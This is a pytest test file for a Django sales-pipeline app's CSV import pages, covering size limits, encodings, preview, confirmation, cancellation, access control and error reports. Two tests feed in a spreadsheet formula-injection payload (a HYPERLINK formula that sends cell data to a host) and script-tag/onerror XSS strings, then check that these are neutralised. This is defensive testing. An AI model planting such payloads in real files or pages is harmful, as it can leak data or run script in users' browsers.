"""CSV import pages: upload with limits, preview, confirm once, cancel, error report, privacy of a batch."""

import csv
import io

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from funnel.models import Account, ImportBatch, Opportunity, StageChange
from reps.models import AuditAction, AuditEvent
from tests.factories import AccountFactory

pytestmark = pytest.mark.django_db
OPPORTUNITY_HEADER = "name,customer,owner,stage,amount,expected_close_date,source,next_step\n"


def upload(client, text: str | bytes, kind: str = "opportunities", name: str = "deals.csv", **extra):
    content = text.encode("utf-8") if isinstance(text, str) else text
    data = {"kind": kind, "file": SimpleUploadedFile(name, content, content_type="text/csv"), **extra}
    return client.post(reverse("funnel:import_start"), data)


def uploaded(client, text: str, kind: str = "opportunities") -> ImportBatch:
    response = upload(client, text, kind)
    assert response.status_code == 302, response.content.decode()[:2000]
    return ImportBatch.objects.latest("pk")


def confirm(client, batch: ImportBatch, mode: str):
    return client.post(reverse("funnel:import_confirm", args=[batch.pk]), {"mode": mode})


def messages_of(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def huaxin(rep):
    return AccountFactory(owner=rep, name="Huaxin Steel")


def test_upload_page_states_the_limits_and_links_the_templates(client_for, rep, pipeline):
    response = client_for(rep).get(reverse("funnel:import_start"))
    page = response.content.decode()
    assert response.status_code == 200
    assert "At most 5000 rows and 5 MB per file" in page
    assert reverse("funnel:import_template", args=["customers"]) in page
    assert reverse("funnel:import_template", args=["opportunities"]) in page
    assert 'enctype="multipart/form-data"' in page


def test_template_header_lists_the_accepted_columns_in_the_users_language(client_for, rep):
    response = client_for(rep).get(reverse("funnel:import_template", args=["customers"]))
    assert response["Content-Disposition"].startswith("attachment")
    assert read_csv(response) == [["name", "owner", "industry", "city", "address", "phone", "website", "notes"]]
    rep.language = "zh-hans"
    rep.save()
    response = client_for(rep).get(reverse("funnel:import_template", args=["opportunities"]))
    assert read_csv(response)[0][:4] == ["名称", "客户", "负责人", "阶段"]


def test_template_of_an_unknown_kind_is_404(client_for, rep):
    assert client_for(rep).get(reverse("funnel:import_template", args=["users"])).status_code == 404


def test_upload_stores_a_batch_and_shows_its_preview(client_for, rep, teammate, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + f"A,Huaxin Steel,,,,,,\nB,Huaxin Steel,{teammate.username},,,,,\n")
    assert (batch.created_by, batch.kind, batch.filename, batch.pipeline) == (
        rep,
        "opportunities",
        "deals.csv",
        pipeline,
    )
    response = client.get(reverse("funnel:import_preview", args=[batch.pk]))
    page = response.content.decode()
    assert "1 valid row" in page and "1 row with problems" in page
    assert "Import the 1 valid row" in page
    assert f"Owner: “{teammate.username}” is not someone you can assign to." in page
    assert 'value="all" class="btn btn-outline-primary" disabled' in page
    assert not Opportunity.objects.exists()


def test_gbk_file_with_chinese_headers_is_read(client_for, rep, pipeline):
    AccountFactory(owner=rep, name="华信钢铁")
    text = '名称,客户,金额,预计成交日期\n高炉改造,华信钢铁,"1,200,000",2025/6/30\n'
    client = client_for(rep)
    response = upload(client, text.encode("gbk"))
    batch = ImportBatch.objects.get()
    assert response.status_code == 302
    page = client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
    assert "1 valid row" in page and "高炉改造" in page


def test_a_file_over_5000_rows_is_refused_with_a_message(client_for, rep):
    response = upload(client_for(rep), "name\n" + "Customer\n" * 5001, kind="customers")
    assert response.status_code == 400
    assert "The file has 5001 rows; at most 5000 can be imported at once." in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_file_over_5_mb_is_refused_with_a_message(client_for, rep):
    response = upload(client_for(rep), "name\n" + "x" * (5 * 2**20), kind="customers")
    assert response.status_code == 400
    assert "the limit is 5 MB" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_file_that_is_not_text_is_refused_with_a_message(client_for, rep):
    response = upload(client_for(rep), b"\xff\xd8\xff\xe0 a jpeg", kind="customers")
    assert response.status_code == 400
    assert "neither UTF-8 nor GBK" in response.content.decode()


def test_importing_valid_rows_creates_them_and_reports_the_skipped(client_for, rep, teammate, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\nB,Someone Else's,,,,,,\n")
    response = confirm(client, batch, "valid")
    assert response.status_code == 302
    assert messages_of(response) == ["1 opportunity imported. 1 row was skipped; the reason is listed below."]
    assert list(Opportunity.objects.values_list("name", flat=True)) == ["A"]
    assert StageChange.objects.filter(opportunity__name="A", from_stage=None, by=rep).exists()
    page = client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
    assert "1 row imported." in page and "1 row skipped." in page
    assert "There is no customer named “Someone Else&#x27;s” that you can see." in page


def test_all_or_nothing_imports_nothing_when_a_row_is_invalid(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\nB,Nowhere,,,,,,\n")
    response = confirm(client, batch, "all")
    assert response.status_code == 302
    assert messages_of(response) == ["Nothing was imported: 1 of 2 rows have problems. Correct them and upload again."]
    assert not Opportunity.objects.exists()


def test_all_or_nothing_imports_everything_when_every_row_is_valid(client_for, manager, rep):
    client = client_for(manager)
    batch = uploaded(client, "名称,负责人,城市\n华信钢铁,r1,上海\n宝钢,,上海\n", kind="customers")
    assert (
        "Import only if every row is valid"
        in client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
    )
    response = confirm(client, batch, "all")
    assert messages_of(response) == ["2 customers imported."]
    assert dict(Account.objects.values_list("name", "owner")) == {"华信钢铁": rep.pk, "宝钢": manager.pk}
    event = AuditEvent.objects.get(action=AuditAction.IMPORTED)
    assert event.detail == {"kind": "customers", "rows": 2, "skipped": 0}


def test_double_confirm_imports_once_and_answers_without_an_error_page(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    confirm(client, batch, "valid")
    second = confirm(client, batch, "valid")
    assert second.status_code == 302
    assert messages_of(second)[-1] == "This file has already been imported or cancelled. Nothing more was imported."
    assert Opportunity.objects.count() == 1
    assert AuditEvent.objects.filter(action=AuditAction.IMPORTED).count() == 1


def test_an_unknown_mode_imports_nothing(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    response = confirm(client, batch, "everything")
    assert messages_of(response) == ["Choose how to import."]
    assert not Opportunity.objects.exists()


def test_cancel_imports_nothing_and_leaves_a_note(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    response = client.post(reverse("funnel:import_cancel", args=[batch.pk]))
    assert response.status_code == 302 and response["Location"] == reverse("funnel:import_start")
    assert confirm(client, batch, "valid").status_code == 302
    assert not Opportunity.objects.exists()
    assert (
        "This import was cancelled." in client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
    )


@pytest.mark.parametrize("viewer", ["teammate", "manager", "admin"])
def test_another_users_batch_is_404_and_cannot_be_imported(client_for, cast, pipeline, viewer):
    AccountFactory(owner=cast["rep"], name="Huaxin Steel")
    batch = uploaded(client_for(cast["rep"]), OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    client = client_for(cast[viewer])
    for name in ("import_preview", "import_errors"):
        assert client.get(reverse(f"funnel:{name}", args=[batch.pk])).status_code == 404
    for name in ("import_confirm", "import_cancel"):
        assert client.post(reverse(f"funnel:{name}", args=[batch.pk]), {"mode": "valid"}).status_code == 404
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.PREVIEWED and not Opportunity.objects.exists()
    assert AuditEvent.objects.filter(action=AuditAction.ACCESS_DENIED, object_id=str(batch.pk)).count() == 4


def test_error_report_neutralises_formula_cells(client_for, rep, pipeline):
    client = client_for(rep)
    text = OPPORTUNITY_HEADER + '"=HYPERLINK(""http://x/?""&A1)",@SUM(A1),,,,,,\n+1,-2,,,,,,\n'
    batch = uploaded(client, text)
    response = client.get(reverse("funnel:import_errors", args=[batch.pk]))
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert rows[0][:3] == ["Row", "Problems", "name"]
    assert [row[0] for row in rows[1:]] == ["2", "3"]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\0")]
    assert '\'=HYPERLINK("http://x/?"&A1)' in cells


def test_preview_renders_stored_text_inert(client_for, rep, pipeline):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + '<script>alert(1)</script>,"<img src=x onerror=alert(1)>",,,,,,\n')
    page = client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
    assert "<script>alert(1)" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_preview_shows_the_first_200_rows_in_constant_queries(
    client_for, rep, pipeline, huaxin, django_assert_max_num_queries
):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "".join(f"Deal {n},Huaxin Steel,,,,,,\n" for n in range(250)))
    with django_assert_max_num_queries(15):
        response = client.get(reverse("funnel:import_preview", args=[batch.pk]))
    page = response.content.decode()
    assert "Showing the first 200 of 250 rows." in page
    assert "Deal 199" in page and "Deal 200" not in page
    assert "Import the 250 valid rows" in page
